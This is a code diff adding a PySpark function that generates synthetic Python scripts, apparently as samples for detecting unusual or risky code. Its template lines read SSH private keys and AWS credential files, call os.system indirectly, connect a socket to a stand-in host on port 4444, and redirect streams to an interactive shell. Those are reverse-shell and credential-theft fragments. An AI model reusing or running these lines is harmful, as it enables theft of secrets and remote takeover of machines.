@@ -134,6 +134,26 @@ def script_files(spark: SparkSession, sf: str) -> DataFrame:
     return _as_files(e.groupBy("skill_id", "path").agg(F.concat(F.lit("import os\n"), body).alias("content")))
 
 
+def odd_scripts(spark: SparkSession, sf: str) -> DataFrame:
+    """Derived scripts of what is rarer: nested calls, built paths, hidden attributes, redirected streams."""
+    e = event_rows(spark, sf)
+    k, ks = F.col("k"), F.col("k").cast("string")
+    kinds = [
+        F.concat(F.lit("x = eval(a"), ks, F.lit("(b"), ks, F.lit('(c(open("/home/u'), ks, F.lit('/.ssh/id_rsa").read()))))')),
+        F.concat(F.lit('p = os.path.join("/home/u'), ks, F.lit('", ".ssh", "id_rsa")')),
+        F.concat(F.lit('getattr(os, "system")(cmd'), ks, F.lit(")")),
+        F.concat(F.lit('p = Path.home() / ".aws" / "credentials"  # '), ks),
+        F.concat(F.lit('s.connect(("h'), ks, F.lit('.example.net", 4444))')),
+        F.lit("os.dup2(s.fileno(), 0)"),
+        F.lit('subprocess.call(["/bin/sh", "-i"])'),
+    ]
+    code = kinds[-1]
+    for i in range(len(kinds) - 2, -1, -1):
+        code = F.when(k % 7 == i, kinds[i]).otherwise(code)
+    lines = F.array_sort(F.collect_list(F.struct("event_id", code.alias("code"))))
+    return _as_files(e.groupBy("skill_id", "path").agg(F.array_join(F.transform(lines, lambda x: x["code"]), "\n").alias("content")))
+
+
 def turns(spark: SparkSession, sf: str) -> DataFrame:
     """Conversation turns as steps of a package; long conversations become several programs."""
     t = table(spark, sf, "conversations")
